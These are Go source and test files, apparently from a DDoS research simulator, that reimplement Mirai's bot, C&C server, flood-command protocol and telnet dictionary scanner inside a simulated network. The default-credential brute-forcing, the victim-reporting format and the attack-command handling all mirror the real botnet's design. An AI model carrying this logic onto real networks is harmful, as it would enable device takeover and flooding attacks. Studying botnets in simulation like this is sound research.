func runFor(t *testing.T, s *sim.Scheduler, d sim.Time) {
	t.Helper()
	if err := s.Run(s.Now() + d); err != nil {
		t.Fatal(err)
	}
}

// TestReconnectKeepsSinglePingTicker pins the ping-ticker leak fix: a
// bot surviving N churn-driven reconnect cycles must end with exactly
// one armed ticker (the current session's keepalive), not one per
// session it ever established.
func TestReconnectKeepsSinglePingTicker(t *testing.T) {
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{BotTimeout: 20 * sim.Second})
	victim, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC:            netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		ReconnectDelay: 5 * sim.Second,
		PingPeriod:     2 * sim.Second,
	}, 500*netsim.Kbps)
	runFor(t, r.sched, 5*sim.Second)
	if cnc.BotCount() != 1 {
		t.Fatalf("precondition: bot count = %d", cnc.BotCount())
	}

	const cycles = 5
	dev := victim.Node().DefaultDevice()
	for i := 0; i < cycles; i++ {
		dev.SetUp(false)
		runFor(t, r.sched, 2*sim.Minute)
		dev.SetUp(true)
		runFor(t, r.sched, 3*sim.Minute)
	}
	if !bot.Connected() {
		t.Fatal("bot did not reconnect after churn cycles")
	}
	if bot.Reconnects < cycles {
		t.Fatalf("Reconnects = %d, want >= %d", bot.Reconnects, cycles)
	}
	procs := victim.Procs()
	if len(procs) != 1 {
		t.Fatalf("process table = %d entries", len(procs))
	}
	if got := procs[0].ActiveTickers(); got != 1 {
		t.Fatalf("active tickers after %d reconnects = %d, want exactly 1 (leak)", cycles, got)
	}
}

// TestPingTickerStoppedWhileDisconnected checks the other half of the
// leak fix: between sessions the keepalive must be disarmed, not left
// firing into a dead connection.
func TestPingTickerStoppedWhileDisconnected(t *testing.T) {
	r := newRig(t)
	attacker, _ := r.spawnCNC(t, CNCConfig{BotTimeout: 20 * sim.Second})
	victim, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC:            netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		ReconnectDelay: 5 * sim.Minute,
		PingPeriod:     2 * sim.Second,
	}, 500*netsim.Kbps)
	runFor(t, r.sched, 5*sim.Second)
	if !bot.Connected() {
		t.Fatal("precondition: bot not connected")
	}
	// Take the uplink down; the bot's next ping exhausts its
	// retransmissions (~25 s) and tears the session down, and the huge
	// ReconnectDelay leaves it parked in the disconnected state.
	victim.Node().DefaultDevice().SetUp(false)
	runFor(t, r.sched, 1*sim.Minute)
	if bot.Connected() {
		t.Fatal("bot still considers the dead session connected")
	}
	if got := victim.Procs()[0].ActiveTickers(); got != 0 {
		t.Fatalf("active tickers while disconnected = %d, want 0", got)
	}
}

// TestReconnectBackoffJitter pins the reconnect-herd fix: delays grow
// exponentially with consecutive failures, are capped, and carry
// per-draw jitter so a fleet severed by one C&C outage does not
// re-dial in lock-step.
func TestReconnectBackoffJitter(t *testing.T) {
	r := newRig(t)
	attacker, _ := r.spawnCNC(t, CNCConfig{})
	_, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC:            netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		ReconnectDelay: 10 * sim.Second,
	}, 500*netsim.Kbps)

	base, max := 10*sim.Second, 40*sim.Second
	for fails := 0; fails <= 6; fails++ {
		bot.dialFails = fails
		want := base << fails
		if want > max {
			want = max
		}
		for i := 0; i < 8; i++ {
			d := bot.reconnectDelay()
			if d < want || d >= want+base {
				t.Fatalf("fails=%d draw=%d: delay %v outside [%v, %v)", fails, i, d, want, want+base)
			}
		}
	}
	// Jitter must actually vary across draws.
	bot.dialFails = 0
	seen := make(map[sim.Time]bool)
	for i := 0; i < 32; i++ {
		seen[bot.reconnectDelay()] = true
	}
	if len(seen) < 2 {
		t.Fatalf("32 jitter draws produced %d distinct delays, want spread", len(seen))
	}
}

// TestReapSilentBotsAfterCrash is the process-crash coverage for
// CNC.reapSilentBots: a bot whose process dies behind a downed link —
// no FIN/RST ever reaches the C&C — must be deregistered once its
// pings have been silent for BotTimeout, and the registry count must
// agree with the registration/loss counters.
func TestReapSilentBotsAfterCrash(t *testing.T) {
	r := newRig(t)
	lost := 0
	attacker, cnc := r.spawnCNC(t, CNCConfig{
		BotTimeout: 20 * sim.Second,
		OnBotLost:  func(netip.Addr) { lost++ },
	})
	victim, _ := r.spawnBot(t, "dev-1", BotConfig{
		CNC:        netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		PingPeriod: 2 * sim.Second,
	}, 500*netsim.Kbps)
	runFor(t, r.sched, 5*sim.Second)
	if cnc.BotCount() != 1 || cnc.TotalRegistered != 1 {
		t.Fatalf("precondition: count=%d registered=%d", cnc.BotCount(), cnc.TotalRegistered)
	}

	// Crash the bot mid-ping with its uplink down: the teardown's abort
	// cannot reach the C&C, so only the reaper can notice.
	victim.Node().DefaultDevice().SetUp(false)
	procs := victim.Procs()
	if len(procs) != 1 {
		t.Fatalf("process table = %d entries", len(procs))
	}
	victim.Kill(procs[0].PID())

	// Within BotTimeout the registry still carries the silent bot.
	runFor(t, r.sched, 10*sim.Second)
	if cnc.BotCount() != 1 {
		t.Fatalf("bot reaped before BotTimeout: count=%d", cnc.BotCount())
	}
	// After BotTimeout (+ one reaper period of slack) it must be gone.
	runFor(t, r.sched, 40*sim.Second)
	if cnc.BotCount() != 0 {
		t.Fatalf("silent crashed bot still registered: count=%d", cnc.BotCount())
	}
	if lost != 1 {
		t.Fatalf("OnBotLost fired %d times, want 1", lost)
	}
	if got := cnc.TotalRegistered - lost; got != cnc.BotCount() {
		t.Fatalf("counters disagree: registered(%d) - lost(%d) = %d, BotCount = %d",
			cnc.TotalRegistered, lost, got, cnc.BotCount())
	}
}
