// Package mirai implements the Mirai malware components the paper
// deploys from its published source: the bot (self-hiding, rival
// killing, C&C registration, UDP-PLAIN flood engine), the C&C server
// with its telnet admin interface and bot registry, and the small wire
// protocol between them.
package mirai

import (
	"fmt"
	"net/netip"
	"strconv"
	"strings"
)

// CNCPort is the TCP port Mirai bots and telnet admins connect to.
const CNCPort = 23

// botMagic is the 4-byte preamble a bot sends on connect; anything
// else is treated as a telnet admin session, matching how the real C&C
// multiplexes port 23.
var botMagic = []byte{0x00, 0x00, 0x00, 0x01}

// Attack method names. The paper's experiment series uses UDP-PLAIN;
// SYN and ACK floods are also implemented from Mirai's attack module.
const (
	MethodUDPPlain = "udpplain"
	MethodSYN      = "syn"
	MethodACK      = "ack"
)

// KnownMethod reports whether m names an implemented attack.
func KnownMethod(m string) bool {
	switch m {
	case MethodUDPPlain, MethodSYN, MethodACK:
		return true
	default:
		return false
	}
}

// DefaultUDPPlainPayload is Mirai's default UDP flood payload size in
// bytes.
const DefaultUDPPlainPayload = 512

// AttackCommand is a parsed C&C attack order.
type AttackCommand struct {
	Method   string
	Target   netip.Addr
	Port     uint16
	Duration int // seconds
}

// Encode renders the bot-wire form of the command.
func (a AttackCommand) Encode() string {
	return fmt.Sprintf("%s %s %d %d\n", a.Method, a.Target, a.Port, a.Duration)
}

// ParseAttackCommand parses a bot-wire command line.
func ParseAttackCommand(line string) (AttackCommand, error) {
	fields := strings.Fields(strings.TrimSpace(line))
	if len(fields) != 4 {
		return AttackCommand{}, fmt.Errorf("mirai: bad attack command %q", line)
	}
	if !KnownMethod(fields[0]) {
		return AttackCommand{}, fmt.Errorf("mirai: unsupported method %q", fields[0])
	}
	addr, err := netip.ParseAddr(fields[1])
	if err != nil {
		return AttackCommand{}, fmt.Errorf("mirai: bad target: %w", err)
	}
	port, err := strconv.ParseUint(fields[2], 10, 16)
	if err != nil {
		return AttackCommand{}, fmt.Errorf("mirai: bad port: %w", err)
	}
	secs, err := strconv.Atoi(fields[3])
	if err != nil || secs <= 0 {
		return AttackCommand{}, fmt.Errorf("mirai: bad duration %q", fields[3])
	}
	return AttackCommand{Method: fields[0], Target: addr, Port: uint16(port), Duration: secs}, nil
}

// lineBuffer accumulates stream bytes and yields complete lines.
type lineBuffer struct {
	buf []byte
}

// feed appends data and returns any completed lines (without their
// newline).
func (l *lineBuffer) feed(data []byte) []string {
	l.buf = append(l.buf, data...)
	var lines []string
	for {
		idx := -1
		for i, b := range l.buf {
			if b == '\n' {
				idx = i
				break
			}
		}
		if idx < 0 {
			return lines
		}
		line := strings.TrimRight(string(l.buf[:idx]), "\r")
		l.buf = append(l.buf[:0], l.buf[idx+1:]...)
		lines = append(lines, line)
	}
}
