package mirai

import (
	"net/netip"
	"strings"

	"ddosim/internal/binaries/telnetd"
	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// ScanListenPort is where the loader accepts victim reports, as in
// Mirai's scanListen utility.
const ScanListenPort = 48101

// ScanConfig parameterizes Mirai's telnet scanner — the baseline
// recruitment vector (dictionary attacks on default credentials) the
// paper contrasts with memory-error exploitation.
type ScanConfig struct {
	// Enabled turns the scanner on.
	Enabled bool
	// Prefix is the IPv4 range scanned for open telnet.
	Prefix netip.Prefix
	// Period is the delay between scan probes. Default 2 s.
	Period sim.Time
	// CredsPerTarget bounds dictionary attempts per discovered host.
	// Default 6, mirroring Mirai's randomized subset.
	CredsPerTarget int
	// Dictionary holds the credential list. Defaults to
	// telnetd.MiraiDictionary.
	Dictionary []telnetd.Cred
	// ReportTo is the loader's scanListen endpoint.
	ReportTo netip.AddrPort
	// Skip lists addresses never probed — Mirai hardcodes its own
	// infrastructure (and some address ranges) as off-limits.
	Skip []netip.Addr
}

func (c *ScanConfig) skipped(a netip.Addr) bool {
	for _, s := range c.Skip {
		if s == a {
			return true
		}
	}
	return false
}

func (c *ScanConfig) normalize() {
	if c.Period <= 0 {
		c.Period = 2 * sim.Second
	}
	if c.CredsPerTarget <= 0 {
		c.CredsPerTarget = 6
	}
	if len(c.Dictionary) == 0 {
		c.Dictionary = telnetd.MiraiDictionary
	}
}

// Scanner probes random addresses for open telnet, brute-forces the
// dictionary, and reports working credentials to the loader. Both
// bots and the attacker's seed process run one.
type Scanner struct {
	cfg ScanConfig
	p   *container.Process

	sequential bool
	nextSeq    netip.Addr
	stopAfter  int

	// Counters for tests and experiments.
	Probes   uint64
	Hits     uint64
	Reported uint64
}

// NewScanner creates a random-order scanner (the bot behaviour).
func NewScanner(p *container.Process, cfg ScanConfig) *Scanner {
	cfg.normalize()
	return &Scanner{cfg: cfg, p: p}
}

// NewSeedScanner creates a sequential scanner that stops after
// stopAfter successes — how the attacker seeds patient zero.
func NewSeedScanner(p *container.Process, cfg ScanConfig, stopAfter int) *Scanner {
	cfg.normalize()
	return &Scanner{
		cfg:        cfg,
		p:          p,
		sequential: true,
		nextSeq:    cfg.Prefix.Addr(),
		stopAfter:  stopAfter,
	}
}

// Start arms the scan ticker.
func (s *Scanner) Start() {
	t := s.p.NewTicker(s.cfg.Period, s.probe)
	t.Start()
}

func (s *Scanner) done() bool {
	return s.stopAfter > 0 && int(s.Reported) >= s.stopAfter
}

func (s *Scanner) probe() {
	if !s.p.Alive() || s.done() {
		return
	}
	target := s.pickTarget()
	if !target.IsValid() {
		return
	}
	s.Probes++
	s.tryCreds(target, s.cfg.CredsPerTarget)
}

func (s *Scanner) pickTarget() netip.Addr {
	if s.sequential {
		a := s.nextSeq.Next()
		if !s.cfg.Prefix.Contains(a) {
			a = s.cfg.Prefix.Addr().Next()
		}
		s.nextSeq = a
		if s.cfg.skipped(a) {
			return netip.Addr{}
		}
		return a
	}
	// Random host within the prefix (IPv4).
	bits := 32 - s.cfg.Prefix.Bits()
	if bits <= 0 || bits > 16 {
		return netip.Addr{}
	}
	hosts := 1 << uint(bits)
	n := s.p.RNG().Intn(hosts-2) + 1 // skip network and broadcast
	base := s.cfg.Prefix.Addr().As4()
	v := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
	v += uint32(n)
	addr := netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
	if addr == s.p.Node().Addr4() || s.cfg.skipped(addr) {
		return netip.Addr{} // never scan ourselves or the C&C
	}
	return addr
}

// tryCreds attempts a randomly-drawn dictionary entry against target
// (Mirai samples its credential table randomly per attempt); on
// failure it retries with a fresh connection until the attempt budget
// runs out.
func (s *Scanner) tryCreds(target netip.Addr, remaining int) {
	if remaining <= 0 || !s.p.Alive() || s.done() {
		return
	}
	cred := s.cfg.Dictionary[s.p.RNG().Intn(len(s.cfg.Dictionary))]
	s.p.DialTCP(netip.AddrPortFrom(target, 23), func(c *netsim.TCPConn, err error) {
		if err != nil {
			return // port closed or host absent: move on
		}
		var transcript strings.Builder
		stage := 0
		c.SetDataHandler(func(data []byte) {
			transcript.Write(data)
			text := transcript.String()
			switch {
			case stage == 0 && strings.Contains(text, "login: "):
				stage = 1
				_ = c.Send([]byte(cred.User + "\n"))
			case stage == 1 && strings.Contains(text, "Password: "):
				stage = 2
				_ = c.Send([]byte(cred.Pass + "\n"))
			case stage == 2 && strings.Contains(text, "$ "):
				stage = 3
				s.Hits++
				c.Close()
				s.report(target, cred)
			case stage == 2 && strings.Contains(text, "Login incorrect"):
				stage = 3
				c.Close()
				s.tryCreds(target, remaining-1)
			}
		})
		c.SetCloseHandler(func(error) {})
	})
}

// seedBehavior runs a sequential seed scanner as an attacker-side
// process — how the botmaster plants patient zero before bot-driven
// spreading takes over.
type seedBehavior struct {
	cfg       ScanConfig
	stopAfter int
	sc        *Scanner
}

// SeedScannerBehavior wraps a seed scanner as a container process.
func SeedScannerBehavior(cfg ScanConfig, stopAfter int) container.Behavior {
	return &seedBehavior{cfg: cfg, stopAfter: stopAfter}
}

// Name implements container.Behavior.
func (s *seedBehavior) Name() string { return "seed-scan" }

// Start implements container.Behavior.
func (s *seedBehavior) Start(p *container.Process) {
	s.sc = NewSeedScanner(p, s.cfg, s.stopAfter)
	s.sc.Start()
}

// Stop implements container.Behavior.
func (s *seedBehavior) Stop(*container.Process) {}

// report sends "victim <ip> <user> <pass>" to the loader's
// scanListen port.
func (s *Scanner) report(target netip.Addr, cred telnetd.Cred) {
	if s.done() {
		return
	}
	s.p.DialTCP(s.cfg.ReportTo, func(c *netsim.TCPConn, err error) {
		if err != nil {
			return
		}
		s.Reported++
		_ = c.Send([]byte("victim " + target.String() + " " + cred.User + " " + cred.Pass + "\n"))
		c.Close()
	})
}
