package mirai

import (
	"net/netip"
	"strings"

	"ddosim/internal/netsim"
)

// AdminSession drives the C&C's telnet interface programmatically —
// the simulation equivalent of the researcher telnetting into the C&C
// (§IV-A). It logs in, runs a fixed command list, and collects all
// output.
type AdminSession struct {
	// Transcript accumulates everything the server sent.
	Transcript strings.Builder
	// Err records a connection-level failure.
	Err error
	// Done reports session completion (server closed or all commands
	// sent and 'exit' issued).
	Done bool
}

// RunAdminSession connects from node to the C&C at addr, authenticates
// with user/pass, issues each command in order (waiting for a prompt
// between commands), then exits. onDone fires once when the session
// ends.
func RunAdminSession(node *netsim.Node, addr netip.AddrPort, user, pass string, commands []string, onDone func(*AdminSession)) {
	s := &AdminSession{}
	finish := func() {
		if s.Done {
			return
		}
		s.Done = true
		if onDone != nil {
			onDone(s)
		}
	}
	node.DialTCP(addr, func(c *netsim.TCPConn, err error) {
		if err != nil {
			s.Err = err
			finish()
			return
		}
		pending := append([]string{user, pass}, commands...)
		pending = append(pending, "exit")
		sent := 0
		c.SetDataHandler(func(data []byte) {
			s.Transcript.Write(data)
			text := s.Transcript.String()
			// Send the next line each time the server shows a prompt.
			for sent < len(pending) && promptsSeen(text) > sent {
				_ = c.Send([]byte(pending[sent] + "\n"))
				sent++
			}
		})
		c.SetCloseHandler(func(error) { finish() })
	})
}

// promptsSeen counts the prompts ("login: ", "password: ", "> ") in
// the transcript so the client stays in lockstep with the server.
func promptsSeen(text string) int {
	return strings.Count(text, "login: ") +
		strings.Count(text, "password: ") +
		strings.Count(text, "> ")
}
