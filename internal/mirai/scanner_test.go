package mirai

import (
	"net/netip"
	"strings"
	"testing"

	"ddosim/internal/binaries/telnetd"
	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// scanRig builds: an attacker container (loader + scanListen), one
// telnet victim, and a scanner process on a third container.
type scanRig struct {
	*rig
	attacker *container.Container
	loader   *Loader
	victim   *container.Container
	telnet   *telnetd.Daemon
}

func newScanRig(t *testing.T, victimCred telnetd.Cred, infectionCmd string) *scanRig {
	t.Helper()
	r := newRig(t)
	sr := &scanRig{rig: r}

	atkImg := &container.Image{
		Name: "ddosim/atk", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	r.engine.RegisterImage(atkImg)
	var err error
	sr.attacker, err = r.engine.Create("ddosim/atk:t", "attacker", r.link(100*netsim.Mbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := sr.attacker.Start(); err != nil {
		t.Fatal(err)
	}
	sr.loader = NewLoader(LoaderConfig{InfectionCommand: infectionCmd})
	sr.attacker.Spawn(sr.loader)

	vicImg := &container.Image{
		Name: "ddosim/vic", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	r.engine.RegisterImage(vicImg)
	sr.victim, err = r.engine.Create("ddosim/vic:t", "victim", r.link(500*netsim.Kbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := sr.victim.Start(); err != nil {
		t.Fatal(err)
	}
	sr.telnet = telnetd.New(telnetd.Config{Cred: victimCred})
	sr.victim.Spawn(sr.telnet)
	return sr
}

// scannerHost spawns a scanner on its own container.
func (sr *scanRig) scannerHost(t *testing.T, cfg ScanConfig) *Scanner {
	t.Helper()
	img := &container.Image{
		Name: "ddosim/scn", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	sr.engine.RegisterImage(img)
	c, err := sr.engine.Create("ddosim/scn:t", "scanner", sr.link(500*netsim.Kbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	cfg.ReportTo = netip.AddrPortFrom(sr.attacker.Node().Addr4(), ScanListenPort)
	var sc *Scanner
	c.Spawn(&scannerBehavior{cfg: cfg, out: &sc})
	return sc
}

type scannerBehavior struct {
	cfg ScanConfig
	out **Scanner
}

func (b *scannerBehavior) Name() string { return "scan" }
func (b *scannerBehavior) Start(p *container.Process) {
	*b.out = NewScanner(p, b.cfg)
	(*b.out).Start()
}
func (b *scannerBehavior) Stop(*container.Process) {}

func TestScannerFindsCracksAndReports(t *testing.T) {
	sr := newScanRig(t, telnetd.Cred{User: "root", Pass: "xc3511"}, "rm -f /nothing")
	sc := sr.scannerHost(t, ScanConfig{
		Enabled: true,
		Prefix:  netip.MustParsePrefix("10.0.0.0/28"), // 14 hosts: quick discovery
		Period:  sim.Second,
		Skip:    []netip.Addr{sr.attacker.Node().Addr4()},
	})
	if err := sr.sched.Run(3 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if sc.Probes == 0 {
		t.Fatal("no probes")
	}
	if sc.Hits == 0 {
		t.Fatal("victim never cracked")
	}
	if sc.Reported == 0 {
		t.Fatal("no victim reports")
	}
	if sr.loader.Reports == 0 {
		t.Fatal("loader received no reports")
	}
	if sr.loader.Loads == 0 {
		t.Fatalf("loader never loaded (reports=%d)", sr.loader.Reports)
	}
	if sr.loader.Loaded() != 1 {
		t.Fatalf("loaded count = %d", sr.loader.Loaded())
	}
}

func TestScannerCannotCrackStrongCred(t *testing.T) {
	sr := newScanRig(t, telnetd.StrongCred, "rm -f /nothing")
	sc := sr.scannerHost(t, ScanConfig{
		Enabled: true,
		Prefix:  netip.MustParsePrefix("10.0.0.0/28"),
		Period:  500 * sim.Millisecond,
		Skip:    []netip.Addr{sr.attacker.Node().Addr4()},
	})
	if err := sr.sched.Run(3 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if sc.Probes == 0 {
		t.Fatal("no probes")
	}
	if sc.Hits != 0 || sr.loader.Loads != 0 {
		t.Fatalf("strong credential cracked: hits=%d loads=%d", sc.Hits, sr.loader.Loads)
	}
	// Login attempts were made and rejected.
	if sr.telnet.LoginAttempts == 0 {
		t.Fatal("no login attempts against the victim")
	}
}

func TestSeedScannerStopsAfterBudget(t *testing.T) {
	sr := newScanRig(t, telnetd.Cred{User: "root", Pass: "admin"}, "rm -f /nothing")
	img := &container.Image{
		Name: "ddosim/seed", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	sr.engine.RegisterImage(img)
	c, err := sr.engine.Create("ddosim/seed:t", "seeder", sr.link(10*netsim.Mbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	cfg := ScanConfig{
		Enabled:  true,
		Prefix:   netip.MustParsePrefix("10.0.0.0/28"),
		Period:   sim.Second,
		ReportTo: netip.AddrPortFrom(sr.attacker.Node().Addr4(), ScanListenPort),
		Skip:     []netip.Addr{sr.attacker.Node().Addr4()},
	}
	c.Spawn(SeedScannerBehavior(cfg, 1))
	if err := sr.sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if sr.loader.Loaded() != 1 {
		t.Fatalf("seed loaded %d victims", sr.loader.Loaded())
	}
	// The victim is rediscoverable, but the budget stops the seeder:
	// reports stay at 1.
	if sr.loader.Reports > 1 {
		t.Fatalf("seed kept reporting after budget: %d", sr.loader.Reports)
	}
}

func TestLoaderDedupAndMalformedReports(t *testing.T) {
	sr := newScanRig(t, telnetd.Cred{User: "root", Pass: "admin"}, "rm -f /nothing")
	victimAddr := sr.victim.Node().Addr4()

	// Drive the loader directly over TCP with crafted report lines.
	client := sr.star.AttachHost("reporter", 10*netsim.Mbps, sim.Millisecond, 0)
	dst := netip.AddrPortFrom(sr.attacker.Node().Addr4(), ScanListenPort)
	lines := []string{
		"garbage line",
		"victim not-an-ip root admin",
		"victim " + victimAddr.String() + " root admin",
		"victim " + victimAddr.String() + " root admin", // duplicate
	}
	client.DialTCP(dst, func(c *netsim.TCPConn, err error) {
		if err != nil {
			t.Errorf("dial: %v", err)
			return
		}
		_ = c.Send([]byte(strings.Join(lines, "\n") + "\n"))
		c.Close()
	})
	if err := sr.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if sr.loader.Reports != 2 { // both valid reports counted
		t.Fatalf("reports = %d", sr.loader.Reports)
	}
	if sr.loader.Loads != 1 {
		t.Fatalf("loads = %d (dedup failed?)", sr.loader.Loads)
	}
	if sr.telnet.Logins != 1 {
		t.Fatalf("victim logins = %d", sr.telnet.Logins)
	}
}

func TestLoaderRetriesAfterFailedLoad(t *testing.T) {
	// First report arrives while the victim is offline; the load
	// fails and the loader must accept a later re-report.
	sr := newScanRig(t, telnetd.Cred{User: "root", Pass: "admin"}, "rm -f /nothing")
	victimAddr := sr.victim.Node().Addr4()
	sr.victim.Node().DefaultDevice().SetUp(false)

	client := sr.star.AttachHost("reporter", 10*netsim.Mbps, sim.Millisecond, 0)
	dst := netip.AddrPortFrom(sr.attacker.Node().Addr4(), ScanListenPort)
	report := func() {
		client.DialTCP(dst, func(c *netsim.TCPConn, err error) {
			if err != nil {
				return
			}
			_ = c.Send([]byte("victim " + victimAddr.String() + " root admin\n"))
			c.Close()
		})
	}
	report()
	sr.sched.Schedule(2*sim.Minute, func() {
		sr.victim.Node().DefaultDevice().SetUp(true)
		sr.sched.Schedule(10*sim.Second, report)
	})
	if err := sr.sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if sr.loader.Loads != 1 {
		t.Fatalf("loads = %d after retry", sr.loader.Loads)
	}
}

func TestScanConfigDefaults(t *testing.T) {
	cfg := ScanConfig{}
	cfg.normalize()
	if cfg.Period != 2*sim.Second || cfg.CredsPerTarget != 6 {
		t.Fatalf("defaults = %+v", cfg)
	}
	if len(cfg.Dictionary) == 0 {
		t.Fatal("empty default dictionary")
	}
}

func TestScannerSkipList(t *testing.T) {
	cfg := ScanConfig{Skip: []netip.Addr{netip.MustParseAddr("10.0.0.9")}}
	if !cfg.skipped(netip.MustParseAddr("10.0.0.9")) {
		t.Fatal("skip miss")
	}
	if cfg.skipped(netip.MustParseAddr("10.0.0.8")) {
		t.Fatal("false skip")
	}
}
