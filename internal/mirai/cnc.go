package mirai

import (
	"bytes"
	"fmt"
	"net/netip"
	"sort"
	"strings"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/sim"
)

// CNCConfig parameterizes the command-and-control server.
type CNCConfig struct {
	// Port defaults to CNCPort (23).
	Port uint16
	// User and Pass guard the telnet admin interface. Defaults match
	// the published source's bundled account.
	User string
	Pass string
	// OnBotRegistered observes each successful bot registration — the
	// experiment harness counts recruitment (R2) through this.
	OnBotRegistered func(addr netip.Addr, arch string)
	// OnBotLost observes bot disconnections (churn makes these
	// frequent).
	OnBotLost func(addr netip.Addr)
	// BotTimeout drops bots whose keepalive pings stop arriving.
	// Defaults to 180 s (three missed 60 s pings, as in the published
	// source).
	BotTimeout sim.Time
	// ReplayAttackCommand, when set, re-sends the most recent attack
	// command — trimmed to its remaining duration — to any bot that
	// registers while the commanded window is still open, so a Dev
	// rejoining after an outage still participates. Off by default:
	// the published C&C never replays, which is what produces the
	// paper's Fig. 2 churn gap (pinned by a test).
	ReplayAttackCommand bool
	// Obs, when set, records registrations, losses, and attack
	// commands as trace events and metrics.
	Obs *obs.Obs
}

// BotRecord describes one connected bot.
type BotRecord struct {
	Addr        netip.Addr
	Arch        string
	ConnectedAt sim.Time
	LastSeen    sim.Time
}

// CNC is the C&C server process behaviour. It multiplexes Mirai bots
// and telnet admins on one port, keeps the bot registry, and
// broadcasts attack commands.
type CNC struct {
	cfg CNCConfig
	p   *container.Process

	bots map[*netsim.TCPConn]*BotRecord

	// Counters for tests and experiments.
	AttacksIssued   int
	AdminSessions   int
	TotalRegistered int
	CommandReplays  int

	lastCmd   AttackCommand
	lastCmdAt sim.Time
	haveCmd   bool

	trace         *obs.Tracer
	ctrRegistered *obs.Counter
	ctrLost       *obs.Counter
	ctrCommands   *obs.Counter
}

var _ container.Behavior = (*CNC)(nil)

// NewCNC creates the behaviour.
func NewCNC(cfg CNCConfig) *CNC {
	if cfg.Port == 0 {
		cfg.Port = CNCPort
	}
	if cfg.User == "" {
		cfg.User = "root"
	}
	if cfg.Pass == "" {
		cfg.Pass = "root"
	}
	if cfg.BotTimeout <= 0 {
		cfg.BotTimeout = 180 * sim.Second
	}
	c := &CNC{cfg: cfg, bots: make(map[*netsim.TCPConn]*BotRecord)}
	c.trace = cfg.Obs.Tracer()
	if reg := cfg.Obs.Registry(); reg != nil {
		c.ctrRegistered = reg.Counter("cnc_registrations_total", "successful bot registrations at the C&C")
		c.ctrLost = reg.Counter("cnc_bots_lost_total", "bot connections the C&C lost")
		c.ctrCommands = reg.Counter("cnc_attack_commands_total", "attack commands broadcast by the C&C")
	}
	return c
}

// CNCFactory adapts NewCNC to the binary registry.
func CNCFactory(cfg CNCConfig) container.BehaviorFactory {
	return func(args []string) container.Behavior { return NewCNC(cfg) }
}

// Name implements container.Behavior.
func (c *CNC) Name() string { return "cnc" }

// Start implements container.Behavior.
func (c *CNC) Start(p *container.Process) {
	c.p = p
	if _, err := p.ListenTCP(c.cfg.Port, c.accept); err != nil {
		p.Logf("cnc: listen: %v", err)
	}
	reaper := p.NewTicker(c.cfg.BotTimeout/3, c.reapSilentBots)
	reaper.Start()
}

// sortedConns returns the registry's connections ordered by bot
// address (connect time as tiebreak). The bots map must never be
// ranged directly where side effects follow: map order would leak
// into event sequencing and shared-RNG draw order, breaking the
// same-seed reproducibility the trace layer promises.
func (c *CNC) sortedConns() []*netsim.TCPConn {
	conns := make([]*netsim.TCPConn, 0, len(c.bots))
	for conn := range c.bots { //simlint:allow maporder(collect-then-sort: conns are address-sorted before any side effect)
		conns = append(conns, conn)
	}
	sort.Slice(conns, func(i, j int) bool {
		a, b := c.bots[conns[i]], c.bots[conns[j]]
		if cmp := a.Addr.Compare(b.Addr); cmp != 0 {
			return cmp < 0
		}
		return a.ConnectedAt < b.ConnectedAt
	})
	return conns
}

// reapSilentBots drops bots whose pings stopped — the C&C-side
// detection of churned-out devices.
func (c *CNC) reapSilentBots() {
	now := c.p.Sched().Now()
	for _, conn := range c.sortedConns() {
		if now-c.bots[conn].LastSeen > c.cfg.BotTimeout {
			conn.Abort() // close handler performs deregistration
		}
	}
}

// Stop implements container.Behavior.
func (c *CNC) Stop(*container.Process) {}

// BotCount reports the number of currently-connected bots.
func (c *CNC) BotCount() int { return len(c.bots) }

// Bots returns a snapshot of the registry, ordered by bot address.
func (c *CNC) Bots() []BotRecord {
	out := make([]BotRecord, 0, len(c.bots))
	for _, conn := range c.sortedConns() {
		out = append(out, *c.bots[conn])
	}
	return out
}

// LaunchAttack broadcasts an attack command to every connected bot and
// reports how many were ordered. This is the programmatic equivalent
// of typing the command into the telnet admin session.
func (c *CNC) LaunchAttack(cmd AttackCommand) int {
	c.lastCmd = cmd
	c.lastCmdAt = c.p.Sched().Now()
	c.haveCmd = true
	wire := []byte(cmd.Encode())
	n := 0
	for _, conn := range c.sortedConns() {
		if err := conn.Send(wire); err == nil {
			n++
		}
	}
	c.AttacksIssued++
	c.ctrCommands.Inc()
	c.trace.Event(c.p.Sched().Now(), obs.CatCNC, "attack-command",
		obs.KV{K: "method", V: cmd.Method},
		obs.KV{K: "target", V: cmd.Target.String()},
		obs.KV{K: "bots", V: fmt.Sprint(n)})
	c.p.Logf("cnc: %s sent to %d bots", strings.TrimSpace(cmd.Encode()), n)
	return n
}

// sniffTimeout bounds how long accept waits for the bot magic before
// assuming a telnet admin — the read deadline the real C&C applies.
const sniffTimeout = 250 * sim.Millisecond

// accept sniffs the first bytes to route the connection: bot magic or
